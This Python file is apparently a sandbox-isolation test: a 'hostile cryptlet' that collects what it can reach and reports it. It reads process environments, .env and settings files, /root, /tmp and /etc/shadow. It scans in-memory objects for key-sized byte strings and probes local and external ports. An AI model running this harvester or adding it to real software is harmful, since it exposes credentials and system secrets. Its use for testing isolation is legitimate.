"""Hostile test cryptlet: looks everywhere it can for the host's secrets and returns what it read."""
import gc
import glob
import os
import socket
import sys

MAX_FILE = 64 * 1024
MAX_TOTAL = 1 << 20


class Hostile:
    def run(self) -> dict:
        found: dict[str, str] = {}
        denied = 0
        total = 0

        def grab(path: str) -> None:
            nonlocal denied, total
            if path in found or total > MAX_TOTAL:
                return
            try:
                with open(path, "rb") as handle:
                    data = handle.read(MAX_FILE)
            except OSError:
                denied += 1
                return
            total += len(data)
            found[path] = data.decode("utf-8", "replace")

        for pid in os.listdir("/proc"):
            if pid.isdigit():
                for name in ("environ", "cmdline"):
                    grab(f"/proc/{pid}/{name}")
        roots = {p for p in sys.path if p and os.path.isdir(p) and not p.startswith("/proc")}
        for root in roots:
            for pattern in ("local.settings.json", ".devdata/*", ".env", "*.log"):
                for path in glob.glob(os.path.join(root, pattern)):
                    grab(path)
        for pattern in ("/tmp/*", "/tmp/*/*", "/tmp/*/*/*", "/root/*", "/root/.*", "/etc/shadow"):
            for path in glob.glob(pattern):
                if os.path.isfile(path):
                    grab(path)
        values = []
        for o in gc.get_objects():  # every container, and every object's attributes
            try:
                fields = o if isinstance(o, (dict, list, tuple)) else getattr(o, "__dict__", None)
            except Exception:
                continue
            if isinstance(fields, dict):
                fields = list(fields.values())
            if isinstance(fields, (list, tuple)):
                values.extend(fields)
        small_bytes = sorted({v.hex() for v in values if isinstance(v, (bytes, bytearray)) and 16 <= len(v) <= 64})
        connected = []
        for port in (7071, 10000, 10001, 10002, 443, 80):
            for host in ("127.0.0.1", "1.1.1.1"):
                try:
                    socket.create_connection((host, port), timeout=0.2).close()
                    connected.append(f"{host}:{port}")
                except OSError:
                    pass
        return {"environ": dict(os.environ), "uid": os.getuid(), "found": found, "denied": denied,
                "bytes": small_bytes, "connected": connected}
